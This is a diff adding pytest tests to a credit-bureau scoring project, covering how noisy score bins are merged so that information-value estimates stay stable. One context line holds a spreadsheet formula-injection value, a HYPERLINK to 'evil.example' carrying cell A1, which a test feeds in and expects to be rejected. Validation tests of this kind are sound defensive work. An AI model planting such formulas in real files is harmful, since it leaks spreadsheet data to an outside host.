@@ -158,3 +158,44 @@ def test_a_bureau_features_kind_is_numeric_or_category_never_free_text():
     feature.kind = '=HYPERLINK("http://evil.example/?"&A1,"numeric")'
     with pytest.raises(ProtocolViolation, match="neither 'numeric' nor 'category'"):
         _bureau_feature(feature, priv, pub, 200, True)
+
+
+def test_noisy_bins_are_merged_until_they_carry_more_than_the_noise():
+    """A review's bank had 192 defaults in 2,282 clients: bins of about 10 defaults under
+    the bureau's noise of sigma 4 were drawn to 0 and back, and one feature's IV read 0.23,
+    0.26 and 0.77 in three requests. Merged to at least 5 sigmas of positives and negatives
+    each (post-processing of what the bank received), requests agree better (a standard
+    deviation of 0.09 against 0.14 over 200 draws, the worst 0.75 against 1.11 for a true
+    0.42), and the bank says how far the noise moves each IV: what it cannot remove."""
+    import random
+
+    noise = binning.BinNoise(0.0625)  # the default: sigma 4
+    rng = random.Random(7)  # the test's draws only: the bureau's noise comes from secrets
+    totals = [230, 228, 228, 229, 228, 228, 227, 228, 228, 228]
+    bads = [6, 8, 10, 12, 14, 17, 20, 24, 35, 46]  # 192 defaults, rising
+    exact = binning.BinStatistics(totals, bads)
+    truth = binning.evaluate_feature("x", "bureau", "numeric", exact, True, None).iv
+    raw, merged, spreads = [], [], []
+    for _ in range(40):
+        z = [v - binning.NOISE_BOUND for v in noise.sample(len(totals), rng.randrange)]
+        got = binning.BinStatistics(
+            totals, [min(max(b + e, 0), t) for b, e, t in zip(bads, z, totals, strict=True)]
+        )
+        raw.append(binning.evaluate_feature("x", "bureau", "numeric", got, True, None).iv)
+        stats, missing = binning.merge_for_noise(got, True, None, 5 * noise.sigma)
+        assert min(min(b, t - b) for b, t in zip(stats.bads, stats.totals, strict=True)) >= 20
+        merged.append(binning.evaluate_feature("x", "bureau", "numeric", stats, True, None).iv)
+        spreads.append(binning.iv_spread(stats, True, missing, noise.sigma, True))
+    assert np.std(merged) < 0.8 * np.std(raw)
+    assert max(abs(v - truth) for v in merged) < max(abs(v - truth) for v in raw)
+    # the bank's estimate of the spread is of the spread it sees
+    assert 0.5 < np.mean(spreads) / np.std(merged) < 2.0
+
+
+def test_small_categories_and_a_small_missing_bin_are_merged_for_the_noise():
+    stats = binning.BinStatistics([500, 400, 60, 50, 40], [60, 50, 4, 6, 3])
+    merged, missing = binning.merge_for_noise(stats, False, 4, 20)
+    assert missing is None and sum(merged.totals) == 1050 and sum(merged.bads) == 123
+    assert all(min(b, t - b) >= 20 for b, t in zip(merged.bads, merged.totals, strict=True))
+    kept, missing = binning.merge_for_noise(stats, False, None, 0)
+    assert kept == stats and missing is None
